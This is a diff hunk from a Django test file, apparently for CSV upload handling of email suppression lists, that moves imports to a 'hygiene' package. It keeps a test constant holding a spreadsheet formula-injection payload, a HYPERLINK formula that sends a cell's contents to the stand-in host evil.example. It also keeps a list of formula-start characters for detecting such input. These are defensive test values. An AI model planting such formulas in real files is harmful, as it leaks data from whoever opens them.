@@ -11,8 +11,8 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from campaigns.models import Suppression
 from campaigns.services_suppression import parse_suppression_csv
 from campaigns.tests.page_factories import make_suppression
-from campaigns.tests.validation_factories import add_zone
-from campaigns.validation.services import iter_rows, upload_parse
+from hygiene.services import iter_rows, upload_parse
+from hygiene.tests.factories import add_zone
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
